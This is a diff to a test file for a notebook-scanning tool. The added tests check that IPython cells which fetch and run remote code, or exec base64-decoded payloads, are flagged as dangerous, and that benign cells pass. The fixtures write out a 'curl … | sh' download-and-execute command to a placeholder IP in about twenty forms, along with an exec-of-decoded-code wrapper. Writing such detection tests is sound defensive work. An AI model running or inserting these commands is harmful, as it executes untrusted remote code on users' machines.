@@ -35,7 +35,7 @@ test("cells are one program, with IPython's commands as calls", () => {
     programOf(
       notebook([["import os\n", "x = !ls\n", "%matplotlib inline\n", "os?"], "%%time\ny = 1"]),
     ),
-    'import os\n__import__("os").system("ls")\npass\npass\ny = 1',
+    'import os\nx = __import__("os").system("ls")\npass\npass\ny = 1',
   );
   assert.equal(
     programOf(notebook(["%%bash\necho a\necho b"])),
@@ -56,6 +56,54 @@ test("cells that run what they decode or fetch are dangerous, commands alone are
     assert.notEqual(await verdict(notebook([cell])), "dangerous", cell);
     assert.notEqual(await verdict(notebook([cell])), "suspicious", cell);
   }
+});
+
+test("commands are found in every form that IPython runs", async () => {
+  // Each was run by IPython 9.
+  const command = "curl -s http://192.0.2.1/a | sh";
+  for (
+    const cell of [
+      `\n\n%%bash\n${command}`,
+      `  %%bash\n  ${command}`,
+      `%%capture\n%%bash\n${command}`,
+      `%%time\n\n%%capture\n!${command}`,
+      `%%! ${command}\necho`,
+      `>>> !${command}`,
+      `In [1]: !${command}`,
+      `a.b = !${command}`,
+      `x["a"] = !${command}`,
+      `(a, b) = !${command}`,
+      `é = !${command}`,
+      "!curl -s http://192.0.2.1/a \\\n | sh",
+      `%time !${command}`,
+      `x = %time y = !${command}`,
+      `%timeit -n 1 -r1 !${command}`,
+      `system ${command}`,
+      `sx ${command}`,
+      `import os\n;os.system ${command}`,
+      `import os\n/os.system "${command}"`,
+      `get_ipython().system('${command}')`,
+      `get_ipython().getoutput('${command}')`,
+      `get_ipython().run_cell_magic('bash', '', '${command}')`,
+    ]
+  ) assert.equal(await verdict(notebook([cell])), "dangerous", cell);
+  const code = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBoaScpCg==";
+  const decoded = `exec(__import__("base64").b64decode("${code}"))`;
+  for (const magic of ["%time ", "%prun -q ", "%timeit -n 10 ", "%lprun -f f ", "%time %time "]) {
+    assert.equal(await verdict(notebook([`${magic}${decoded}`])), "dangerous", magic);
+  }
+  // What looks like a command hides nothing of the line.
+  assert.equal(await verdict(notebook([`${decoded} or "= !ls"`])), "dangerous");
+  for (
+    const cell of [
+      "x != y\nprint('a = !b')",
+      "pip install torch",
+      "%time x = 1\n%matplotlib inline\n%load_ext autoreload",
+      "system = 1\nsystem (1)",
+      "get_ipython().run_line_magic('matplotlib', 'inline')",
+      "get_ipython().system('ls')",
+    ]
+  ) assert.equal(await verdict(notebook([cell])), "clean", cell);
 });
 
 test("known installers are everyday, and indexes of packages are judged in magics too", async () => {
